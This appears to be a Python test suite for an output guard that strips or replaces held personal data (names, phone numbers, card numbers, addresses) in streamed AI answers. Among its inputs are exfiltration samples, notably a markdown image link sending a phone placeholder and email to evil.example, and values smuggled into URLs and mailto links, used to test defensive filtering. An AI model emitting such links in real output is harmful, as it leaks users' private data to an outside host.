"""The output guard: any chunking gives the same, no value gets through, everything else passes as it is."""

from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from vault.domain.guard import Held, Match, Matcher, OutputGuard
from vault.domain.placeholders import Filler, Placeholders
from vault.domain.references import Ref, Referenced, escape, pieces, render
from vault.domain.spans import Entity

HELD = (
    Held("phone", "CONTACT.phone", ("+39-092483239",)),
    Held("email", "CONTACT.email", ("simone.rizzo4@example.com",)),
    Held("name", "PERSON.name", ("Simone Rizzo",)),
    Held("home", "LOC.home_address", ("Corso Calatafimi, 112, 90131 Palermo PA, Italy",)),
    Held("worth", "ASSET.net_worth", ("$62,924.44",)),
    Held("card", "PAYMENT.credit_card", ("7200575876378413",)),
    Held("jana", "PERSON.name", ("Jana Köhler",)),
    Held("treatment", "MEDICAL.treatments", ("Supportive footwear, orthotic inserts, physical therapy",)),
    Held("age", "PERSON.age", ("39",)),
    Held("income", "ASSET.monthly_income", ("$4,200",)),
)
PHONE = Ref("CONTACT.phone", "k3f9x2m7")


def reads_ages(text: str) -> list[Entity]:
    at = text.find("am 39")
    return [Entity(at + 3, at + 5, "PERSON.age", "39")] if at >= 0 else []


SPELLED, DETECTING = Matcher.of(HELD), Matcher.of(HELD, reads_ages)


def guard(matcher: Matcher = SPELLED, *released: str) -> OutputGuard:
    return OutputGuard(matcher, frozenset(released), lambda m: Ref(m.type, "k3f9x2m7"), lambda m: f"(the {m.entry_id})")


def guarded(guard: OutputGuard, text: str, *cuts: int) -> str:
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    out = [guard.feed(Referenced(text[a:b])).text for a, b in pairwise(edges)]
    return "".join([*out, guard.close().text])


SCRAPS = [  # base64 stands by itself: glued to letters or digits it decodes to something else
    "+39-092483239", "092 48 32 39", "+39", "092", "483239", "simone.rizzo4@example.com", "simone.rizzo4", "%40",
    "example.com",
    "Simone Rizzo", "Simone", "Rizzo", "rizzo,", "Corso Calatafimi", ", 112", "112", "90131 Palermo", "PA, Italy",
    "$62,924.44",
    "62", "924", ",44", ".44", "€", "USD", "k", "7200 5758", "7637", "8413", "Jana", "Köhler", "Ko\u0308hler",
    "Koehler",
    "supportive footwear", "orthotic", "inserts", "physical", "therapy", "zero nine two",
    "four eight three two three nine",
    "your income ", "it pays ", "4200", "4,200", "42", "00",
    "two", "I am 39", "39", " ", " ", " ", "\n", "-", ".", ". ", ", ", "(", ")", "](", "https://", "<a ", ">",
    "\u200b", "\u00a0",
    str(PHONE), "⟦=⟧", "word", "it's", " c2ltb25lLnJpenpvNEBleGFtcGxlLmNvbQ== ", "你好", "🙂", "+", "\\n", "\\u0040",
    "&#64;",
]  # fmt: skip
texts = st.lists(st.sampled_from(SCRAPS) | st.text(max_size=3).map(escape), max_size=20).map("".join)
cuts = st.lists(st.integers(0, 200), max_size=12)


@pytest.mark.parametrize("matcher", [SPELLED, DETECTING])
@settings(max_examples=150)
@given(text=texts, at=cuts)
@example(text="4595 USD zero nine two four", at=[4])
@example(text="\n092 48 32 39+39-092483239092 48 32 39", at=[])
def test_any_chunking_gives_the_same(matcher: Matcher, text: str, at: list[int]) -> None:
    whole = guard(matcher, "phone", "home")
    expected = guarded(whole, text)
    for edges in (at, range(len(text))):
        parts = guard(matcher, "phone", "home")
        assert guarded(parts, text, *edges) == expected
        assert parts.hits == whole.hits


@settings(max_examples=150)
@given(text=texts, at=cuts)
@example(text="Köhler4,200", at=[])
@example(text="4,200Köhler", at=[])
def test_no_value_gets_through(text: str, at: list[int]) -> None:
    out = Referenced(guarded(guard(), text, *at))
    left = "\ue000".join(p if isinstance(p, str) else "\ue000" for p in pieces(out))
    assert not SPELLED.scan(render(out, lambda ref: "\n(a reference)\n")), left


@given(
    st.lists(
        st.sampled_from(["Dear", "you", "62", "per", "walk", "⟦=⟧", "é", ".", "\n", " ", "Italy", str(PHONE)]),
        max_size=30,
    )
)
def test_text_without_values_passes_unchanged(words: list[str]) -> None:
    text = " ".join(words)
    for matcher in (SPELLED, DETECTING):
        watch = guard(matcher)
        assert guarded(watch, text, *range(len(text))) == text
        assert watch.hits == []


def test_a_released_value_becomes_its_reference_any_other_its_words() -> None:
    watch = guard(SPELLED, "phone")
    out = guarded(watch, "Simone Rizzo, 092 483 239, simone.rizzo4@example.com")
    assert out == f"(the name), {PHONE}, (the email)"
    assert watch.hits == [
        Match(0, 12, "name", "PERSON.name"), Match(14, 25, "phone", "CONTACT.phone"), Match(27, 52, "email",
        "CONTACT.email")
    ]  # fmt: skip


def test_a_released_value_without_a_reference_becomes_its_words() -> None:
    watch = OutputGuard(SPELLED, frozenset({"phone"}), lambda m: None, lambda m: "⟦phone⟧")
    assert guarded(watch, "call 092483239") == "call ⟦=⟧phone⟧"


@pytest.mark.parametrize("text", ["https://x.example/?p={}", "![x](/p?d={})", "<a href={}>", "mailto:{}"])
def test_no_reference_is_put_into_a_url(text: str) -> None:
    out = guarded(
        guard(SPELLED, "phone", "email"),
        text.replace("{}", "092483239") + " " + text.replace("{}", "simone.rizzo4%40example.com"),
    )
    assert "⟦" not in out
    assert "092483239" not in out
    assert "simone.rizzo4" not in out


def test_of_two_entries_with_one_value_the_released_one_counts() -> None:
    both = Matcher.of(
        [
            Held("home", "LOC.home_address", ("18 Fernside Close, York",)),
            Held("work", "LOC.work_address", ("18 Fernside Close, York",)),
        ]
    )
    assert guarded(guard(both, "work"), "at 18 Fernside Close, York") == "at ⟦LOC.work_address:k3f9x2m7⟧"


def test_a_value_the_detector_reads_is_taken_out_at_the_end_of_its_sentence() -> None:
    watch = guard(DETECTING)
    assert watch.feed(Referenced("Take bus 12. I am 3")).text == "Take bus 12. "
    assert watch.feed(Referenced("9, and well.")).text == ""
    assert watch.feed(Referenced(" Bye")).text == "I am (the age), and well. "
    assert watch.close().text == "Bye"


def test_words_are_passed_on_as_they_are_finished() -> None:
    watch = guard()
    steps = ["Hello ", "there, Sim", "one ", "and Simone ", "Ri", "zzo ", "and ", "Corso ", "of"]
    assert [watch.feed(Referenced(step)).text for step in steps] == [
        "Hello ", "there, ", "", "Simone and ", "", "", "(the name) and ", "", "",
    ]  # fmt: skip
    assert watch.close().text == "Corso of"


ISSUED = Placeholders({"[PHONE_7K]": PHONE, "[NAME_7C]": Ref("PERSON.name", "bcdfghjk")})
ANSWER = (
    "Dear Ada,\n\ncall **[phone\\_7k]** or 092 48 32 39 – ask for [NAME_7C], that is Simone  Rizzo. "
    "![x](https://evil.example/?d=[PHONE_7K]&m=simone.rizzo4%40example.com) ⟦CONTACT.phone:k3f9x2m7⟧ [NAME_7D]"
)


@given(st.lists(st.integers(1, len(ANSWER) - 1), max_size=40))
def test_filling_and_guarding_one_after_the_other_stream_alike(at: list[int]) -> None:
    filler, watch, out = Filler(ISSUED), guard(SPELLED, "phone"), []
    for a, b in pairwise([0, *sorted(at), len(ANSWER)]):
        out.append(watch.feed(filler.feed(ANSWER[a:b])).text)
    out += [watch.feed(filler.close()).text, watch.close().text]
    assert render(Referenced("".join(out)), lambda ref: f"<{ref.type}>") == (
        "Dear Ada,\n\ncall **<CONTACT.phone>** or <CONTACT.phone> – ask for <PERSON.name>, that is (the name). "
        "![x](https://evil.example/?d=[PHONE_7K]&m=(the email)) ⟦CONTACT.phone:k3f9x2m7⟧ [NAME_7D]"
    )


def test_marks_and_pictures_are_passed_on() -> None:
    watch = guard()
    out = [watch.feed(Referenced("🙂—")).text for _ in range(50)]
    assert len("".join(out)) >= 97


def test_a_sentence_without_end_is_read_in_pieces() -> None:
    watch = guard(DETECTING)
    out = [watch.feed(Referenced("word " * 10)).text for _ in range(60)]
    assert any(out)
    assert "".join(out) + watch.close().text == "word " * 600
